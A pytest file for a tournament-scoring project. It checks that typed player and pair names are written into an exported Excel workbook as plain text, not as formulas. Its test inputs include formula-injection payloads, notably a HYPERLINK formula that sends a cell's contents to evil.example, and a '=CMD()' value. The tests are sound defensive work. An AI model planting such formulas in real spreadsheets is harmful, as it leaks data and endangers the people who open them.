"""Names typed by people go into the workbook as text: never a formula that runs when opened."""

import io

import openpyxl
import pytest
from print_fixtures import mitchell, session_doc

from movements import generate
from tournament.exports import workbook
from tournament.scoring import load_session

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click") & Carol', "+1+1", "-2+3",
           "@SUM(A1:A9)", "=1+1"]


def hostile(doc: dict, key: str) -> dict:
    doc[key] = {k: HOSTILE[i % len(HOSTILE)] + f" {k}" for i, k in enumerate(doc[key])}
    return doc


def written(doc: dict) -> openpyxl.Workbook:
    doc["name"] = "=CMD()"
    return openpyxl.load_workbook(io.BytesIO(workbook(load_session(doc))))


def user_cells(book, typed: set[str]):
    """Every cell whose value is text a person typed (or holds it, as the title does)."""
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and any(t in cell.value for t in typed):
                    yield cell


@pytest.mark.parametrize("doc", [
    hostile(session_doc(mitchell(5, trays_per_round=2), "compass"), "names"),
    hostile(hostile(session_doc(generate("howell-teams", 5), "matches", revoke=False),
                    "names"), "pair_names"),
], ids=["pairs", "teams"])
def test_no_name_is_stored_as_a_formula(doc):
    typed = set(doc["names"].values()) | set(doc.get("pair_names", {}).values())
    book = written(doc)
    cells = list(user_cells(book, typed))
    names = {c.value for c in cells if c.value in typed}
    assert names == set(doc["names"].values())     # every name is there, exactly as typed
    assert all(c.data_type == "s" for c in cells), [(c.coordinate, c.value) for c in cells
                                                    if c.data_type != "s"]
    standings = book["Standings"]
    assert standings["A1"].data_type == "s" and "=CMD()" in standings["A1"].value


def test_the_workbooks_own_formulas_stay_formulas():
    doc = hostile(session_doc(mitchell(5, trays_per_round=2), "compass"), "names")
    book = written(doc)
    formulas = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    typed = set(doc["names"].values()) | {"=CMD()"}
    assert formulas and not any(t in c.value for c in formulas for t in typed)
    assert any(c.value.startswith("=SUMIF(") for c in formulas)
